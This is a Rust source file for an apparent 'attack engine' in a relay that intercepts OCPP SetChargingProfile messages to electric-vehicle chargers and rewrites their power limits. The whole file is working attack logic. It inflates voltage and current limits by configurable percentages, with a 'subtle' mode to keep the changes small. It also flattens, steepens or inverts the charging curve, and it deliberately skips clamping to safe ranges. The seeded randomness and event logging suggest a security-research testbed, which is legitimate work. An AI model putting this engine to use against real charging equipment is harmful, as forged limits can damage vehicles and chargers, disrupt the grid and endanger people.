//! Attack engine
//!
//! Produces a manipulated copy of a charging profile. Manipulation is
//! all-or-nothing per invocation: the input is never mutated and any
//! failure leaves the caller holding the original, so the relay boundary
//! can fall back to forwarding the frame unchanged.

use std::sync::{Arc, Mutex, MutexGuard};

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use tracing::{debug, warn};

use crate::domain::{ChargingProfile, OcppFrame};
use crate::parser::ProfileParser;
use crate::sink::MetricsSink;

use super::{AttackConfig, AttackError, AttackStrategy, CurveMode, ManipulationEvent};

/// Probability that voltage/current manipulation fires under the RANDOM
/// strategy; curve manipulation fires at [`RANDOM_CURVE_PROBABILITY`].
const RANDOM_PARAM_PROBABILITY: f64 = 0.7;
const RANDOM_CURVE_PROBABILITY: f64 = 0.5;

/// Charging-profile attack engine.
///
/// Owns its own pseudo-random generator, seeded at construction, so runs
/// are reproducible and no process-global RNG state leaks between tests.
pub struct AttackEngine {
    config: AttackConfig,
    rng: Mutex<StdRng>,
    sink: Arc<dyn MetricsSink>,
}

impl AttackEngine {
    pub fn new(config: AttackConfig, sink: Arc<dyn MetricsSink>) -> Self {
        let rng = match config.randomization_seed {
            Some(seed) => StdRng::seed_from_u64(seed),
            None => StdRng::from_entropy(),
        };
        Self {
            config,
            rng: Mutex::new(rng),
            sink,
        }
    }

    pub fn config(&self) -> &AttackConfig {
        &self.config
    }

    fn rng(&self) -> MutexGuard<'_, StdRng> {
        self.rng.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// Whether a frame is worth handing to the engine: the attack is
    /// enabled and the frame is a CALL carrying a SetChargingProfile
    /// variant.
    pub fn should_manipulate(&self, frame: &OcppFrame) -> bool {
        if !self.config.enabled {
            return false;
        }
        frame
            .action()
            .map(ProfileParser::is_set_charging_profile_action)
            .unwrap_or(false)
    }

    /// Manipulate a profile under the configured strategy.
    pub fn manipulate_charging_profile(
        &self,
        profile: &ChargingProfile,
    ) -> Result<ChargingProfile, AttackError> {
        self.manipulate_with(profile, self.config.strategy)
    }

    // ── Strategy-forcing entry points ──────────────────────

    pub fn apply_aggressive_strategy(
        &self,
        profile: &ChargingProfile,
    ) -> Result<ChargingProfile, AttackError> {
        self.manipulate_with(profile, AttackStrategy::Aggressive)
    }

    pub fn apply_subtle_strategy(
        &self,
        profile: &ChargingProfile,
    ) -> Result<ChargingProfile, AttackError> {
        self.manipulate_with(profile, AttackStrategy::Subtle)
    }

    pub fn apply_random_strategy(
        &self,
        profile: &ChargingProfile,
    ) -> Result<ChargingProfile, AttackError> {
        self.manipulate_with(profile, AttackStrategy::Random)
    }

    pub fn apply_targeted_strategy(
        &self,
        profile: &ChargingProfile,
    ) -> Result<ChargingProfile, AttackError> {
        self.manipulate_with(profile, AttackStrategy::Targeted)
    }

    // ── Manipulation pipeline ──────────────────────────────

    fn manipulate_with(
        &self,
        profile: &ChargingProfile,
        strategy: AttackStrategy,
    ) -> Result<ChargingProfile, AttackError> {
        let mut modified = profile.clone();

        let (voltage_on, current_on, curve_on) = self.application_gates(strategy);

        // Ordered application: voltage, then current, then curve.
        if voltage_on {
            self.apply_voltage_manipulation(&mut modified, strategy);
        }
        if current_on {
            self.apply_current_manipulation(&mut modified, strategy);
        }
        if curve_on {
            self.apply_curve_manipulation(&mut modified, self.config.curve_mode);
        }

        check_limits_finite(&modified)?;
        self.emit_events(profile, &modified, strategy);
        Ok(modified)
    }

    /// Which manipulation types fire for this invocation.
    ///
    /// RANDOM gates each enabled type behind its own coin flip; SUBTLE
    /// never applies curve manipulation, independent of the curve flag.
    fn application_gates(&self, strategy: AttackStrategy) -> (bool, bool, bool) {
        let c = &self.config;
        match strategy {
            AttackStrategy::Random => {
                let mut rng = self.rng();
                (
                    c.voltage_enabled && rng.gen_bool(RANDOM_PARAM_PROBABILITY),
                    c.current_enabled && rng.gen_bool(RANDOM_PARAM_PROBABILITY),
                    c.curve_enabled && rng.gen_bool(RANDOM_CURVE_PROBABILITY),
                )
            }
            AttackStrategy::Subtle => (c.voltage_enabled, c.current_enabled, false),
            _ => (c.voltage_enabled, c.current_enabled, c.curve_enabled),
        }
    }

    /// Deviation percentage actually applied for a configured base value.
    pub fn calculate_deviation(&self, base_percent: f64, strategy: AttackStrategy) -> f64 {
        match strategy {
            AttackStrategy::Aggressive | AttackStrategy::Targeted => base_percent,
            AttackStrategy::Subtle => base_percent * 0.2,
            AttackStrategy::Random => {
                let (min, max) = if self.config.randomization_enabled {
                    self.config.randomization_deviation_range
                } else {
                    (0.0, base_percent)
                };
                if max <= min {
                    return min;
                }
                self.rng().gen_range(min..max)
            }
        }
    }

    pub fn apply_voltage_manipulation(
        &self,
        profile: &mut ChargingProfile,
        strategy: AttackStrategy,
    ) {
        self.apply_limit_deviation(
            profile,
            self.config.voltage_deviation_percent,
            strategy,
            "voltage",
        );
    }

    pub fn apply_current_manipulation(
        &self,
        profile: &mut ChargingProfile,
        strategy: AttackStrategy,
    ) {
        self.apply_limit_deviation(
            profile,
            self.config.current_deviation_percent,
            strategy,
            "current",
        );
    }

    /// Scale every period limit by a freshly calculated deviation.
    ///
    /// No clamping against the configured target ranges is applied; the
    /// ranges are advisory metadata.
    fn apply_limit_deviation(
        &self,
        profile: &mut ChargingProfile,
        base_percent: f64,
        strategy: AttackStrategy,
        parameter: &str,
    ) {
        let Some(schedule) = profile.schedule_mut() else {
            warn!(parameter, "No charging schedule, skipping manipulation step");
            return;
        };

        for period in &mut schedule.charging_schedule_period {
            let deviation = self.calculate_deviation(base_percent, strategy);
            period.limit *= 1.0 + deviation / 100.0;
        }
        debug!(
            parameter,
            periods = schedule.charging_schedule_period.len(),
            "Applied limit deviation"
        );
    }

    pub fn apply_curve_manipulation(&self, profile: &mut ChargingProfile, mode: CurveMode) {
        let Some(schedule) = profile.schedule_mut() else {
            warn!("No charging schedule, skipping curve manipulation");
            return;
        };
        let periods = &mut schedule.charging_schedule_period;
        if periods.len() < 2 {
            warn!(
                periods = periods.len(),
                "Curve manipulation needs at least two periods"
            );
            return;
        }

        match mode {
            CurveMode::Flatten => {
                let max = periods.iter().map(|p| p.limit).fold(f64::NEG_INFINITY, f64::max);
                for period in periods.iter_mut() {
                    period.limit = max;
                }
            }
            CurveMode::Steepen => {
                let n = periods.len() as f64;
                for (i, period) in periods.iter_mut().enumerate() {
                    period.limit *= 1.0 + (i as f64 / n) * 0.5;
                }
            }
            CurveMode::Invert => {
                // Only the limit ordering is inverted; start offsets stay.
                let mut limits: Vec<f64> = periods.iter().map(|p| p.limit).collect();
                limits.reverse();
                for (period, limit) in periods.iter_mut().zip(limits) {
                    period.limit = limit;
                }
            }
        }
    }

    /// Diff original vs. modified period limits and report one event per
    /// changed, non-zero-original period.
    fn emit_events(
        &self,
        original: &ChargingProfile,
        modified: &ChargingProfile,
        strategy: AttackStrategy,
    ) {
        let (Some(before), Some(after)) = (original.schedule(), modified.schedule()) else {
            return;
        };

        for (i, (o, m)) in before
            .charging_schedule_period
            .iter()
            .zip(&after.charging_schedule_period)
            .enumerate()
        {
            if m.limit != o.limit && o.limit != 0.0 {
                let event = ManipulationEvent {
                    id: uuid::Uuid::new_v4(),
                    timestamp: chrono::Utc::now(),
                    strategy,
                    period_index: i,
                    start_period: o.start_period,
                    original_limit: o.limit,
                    modified_limit: m.limit,
                    deviation_percent: (m.limit - o.limit) / o.limit * 100.0,
                };
                self.sink.log_manipulation(&event);
            }
        }
    }
}

/// All-or-nothing guard: a manipulation that produced a non-finite limit
/// is rejected as a whole.
fn check_limits_finite(profile: &ChargingProfile) -> Result<(), AttackError> {
    if let Some(schedule) = profile.schedule() {
        for (i, period) in schedule.charging_schedule_period.iter().enumerate() {
            if !period.limit.is_finite() {
                return Err(AttackError::NonFiniteLimit(i));
            }
        }
    }
    Ok(())
}
